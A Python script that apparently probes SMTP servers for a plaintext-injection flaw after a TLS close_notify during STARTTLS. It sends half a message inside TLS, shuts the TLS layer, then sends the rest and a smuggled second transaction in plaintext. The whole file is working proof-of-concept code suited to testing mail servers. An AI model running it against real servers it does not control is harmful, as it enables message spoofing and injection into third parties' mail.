"""TLS state changes in the middle of a transaction, as an attacker would make them.

    tls_abuse.py HOST PORT close-notify-in-data
        STARTTLS, EHLO, MAIL, RCPT, DATA and half a message inside TLS; then a TLS close_notify
        (the TLS layer is shut down, the TCP connection stays) and, in plaintext, the rest of the
        message, the end of data and a second transaction. Prints what came back in plaintext
        and "EOF" when the server closed. A server that read plaintext after close_notify would
        queue one or two messages (the 2026 "Dead.Letter" class).

    tls_abuse.py HOST PORT close-notify-in-bdat
        The same with BDAT: a chunk announced inside TLS, half of it sent, close_notify, the rest
        of the chunk and a BDAT LAST in plaintext.
"""
import socket
import ssl
import sys


def line(f):
    return f.readline().decode("latin-1").rstrip("\r\n")


def reply(f):
    lines = []
    while True:
        l = line(f)
        lines.append(l)
        if len(l) < 4 or l[3] != "-":
            return lines


def main():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    raw = socket.create_connection((host, port), timeout=10)
    f = raw.makefile("rb")
    reply(f)
    raw.sendall(b"EHLO attacker.example\r\n")
    reply(f)
    raw.sendall(b"STARTTLS\r\n")
    assert reply(f)[-1].startswith("220"), "no STARTTLS"
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    # A second handle on the TCP connection, to write plaintext after the TLS layer is gone
    # whatever the ssl module does with its own.
    spare = raw.dup()
    tls = ctx.wrap_socket(raw, server_hostname=host)
    tf = tls.makefile("rb")
    tls.sendall(b"EHLO attacker.example\r\n")
    reply(tf)
    tls.sendall(b"MAIL FROM:<attacker@example.net>\r\n")
    assert reply(tf)[-1].startswith("250")
    tls.sendall(b"RCPT TO:<bob@example.test>\r\n")
    assert reply(tf)[-1].startswith("250")
    if mode == "close-notify-in-data":
        tls.sendall(b"DATA\r\n")
        assert reply(tf)[-1].startswith("354")
        tls.sendall(b"Subject: first half\r\n\r\nthis much inside TLS\r\n")
        rest = (b"and this in plaintext\r\n.\r\n"
                b"MAIL FROM:<attacker@example.net>\r\nRCPT TO:<bob@example.test>\r\nDATA\r\n"
                b"Subject: smuggled\r\n\r\nsmuggled\r\n.\r\nQUIT\r\n")
    else:
        tls.sendall(b"BDAT 40\r\n")
        tls.sendall(b"Subject: first half\r\n\r\n")  # 23 of 40 octets
        rest = b"in plaintext now!\r\nBDAT 0 LAST\r\nQUIT\r\n"
    # close_notify: the TLS layer ends, the TCP connection goes on in plaintext.
    try:
        tls.unwrap()
    except (ssl.SSLError, OSError) as e:
        # The server ended the session at our close_notify without its own: fine.
        print("unwrap:", e)
    plain = spare
    try:
        plain.sendall(rest)
    except OSError as e:
        print("send failed:", e)
    plain.settimeout(10)
    got = b""
    try:
        while True:
            chunk = plain.recv(4096)
            if not chunk:
                print("EOF")
                break
            got += chunk
    except (socket.timeout, OSError) as e:
        print("read ended:", e)
    for l in got.decode("latin-1").splitlines():
        print("got:", l)


if __name__ == "__main__":
    main()
